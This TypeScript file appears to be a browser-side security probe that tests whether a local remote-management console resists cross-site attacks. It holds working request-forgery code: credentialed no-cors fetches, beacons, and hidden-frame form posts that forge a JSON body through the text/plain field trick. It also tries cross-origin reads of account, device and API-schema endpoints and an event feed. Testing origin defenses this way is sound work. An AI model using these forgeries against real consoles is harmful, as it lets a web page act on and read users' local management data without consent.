// What a page of elsewhere can send to a console, and what it gets to read of the answers.

/** Loopback answers in milliseconds. */
const PATIENCE_MS = 1_500;

const after = (ms: number) => new Promise<undefined>((resolve) => setTimeout(() => resolve(undefined), ms));

/** Undefined for what is refused, or never comes. */
const late = <T>(work: Promise<T>): Promise<T | undefined> =>
  Promise.race([work.catch(() => undefined), after(PATIENCE_MS)]);

async function forgeByScript(place: string): Promise<void> {
  const body = JSON.stringify({ name: 'forged' });
  const tries: RequestInit[] = [
    { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body },
    { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ name: 'forged' }) },
    { method: 'POST', mode: 'cors', headers: { 'content-type': 'application/json' }, body },
    { method: 'POST', mode: 'no-cors', body: new Blob([body]), referrerPolicy: 'no-referrer' },
    { method: 'POST', mode: 'no-cors', keepalive: true, headers: { 'content-type': 'text/plain' }, body },
  ];
  for (const init of tries) await late(fetch(place, { credentials: 'include', ...init }));
  navigator.sendBeacon(place, body);
}

/** A field's name and value around the equals sign make a JSON text of a plain form. */
function forgeByForm(place: string): void {
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: place, enctype });
    const frame = Object.assign(document.createElement('iframe'), { name: `to ${enctype}` });
    form.target = frame.name;
    form.append(Object.assign(document.createElement('input'), { name: '{"name":"forged","x":"', value: '"}' }));
    document.body.append(frame, form);
    form.submit();
  }
}

async function readByScript(target: string): Promise<string[]> {
  const read: string[] = [];
  for (const place of ['/api/me', '/api/devices', '/api/openapi.json']) {
    const answer = await late(fetch(`${target}${place}`, { credentials: 'include' }));
    if (answer !== undefined) read.push(`fetch ${place} ${await answer.text()}`);
  }
  const feed = new EventSource(`${target}/api/changes`, { withCredentials: true });
  const heard = await late(
    new Promise<string>((resolve, reject) => {
      feed.onopen = () => resolve('the live feed');
      feed.onerror = () => reject(new Error('refused'));
    }),
  );
  feed.close();
  return heard === undefined ? read : [...read, heard];
}

async function readByElement(url: string): Promise<string[]> {
  const loaded: string[] = [];
  for (const tag of ['img', 'script', 'link', 'iframe'] as const) {
    const element = document.createElement(tag);
    // A frame tells of its end whatever is in it.
    if (tag !== 'iframe') element.addEventListener('load', () => loaded.push(`${tag} ${url}`));
    if (element instanceof HTMLLinkElement) Object.assign(element, { rel: 'stylesheet', href: url });
    else element.setAttribute('src', url);
    document.body.append(element);
  }
  await after(500);
  try {
    const inside = document.querySelector<HTMLIFrameElement>('iframe[src]')?.contentDocument?.body.innerText ?? '';
    return inside === '' ? loaded : [...loaded, `frame ${inside.slice(0, 50)}`];
  } catch {
    return loaded; // another origin: nothing can be read there
  }
}

/** Says what could be read. */
async function attack(target: string): Promise<string[]> {
  const place = `${target}/api/customers`;
  await forgeByScript(place);
  forgeByForm(place);
  const read = await readByScript(target);
  return [...read, ...(await readByElement(`${target}/api/openapi.json`))];
}

Object.assign(globalThis, { rmmAttack: attack });
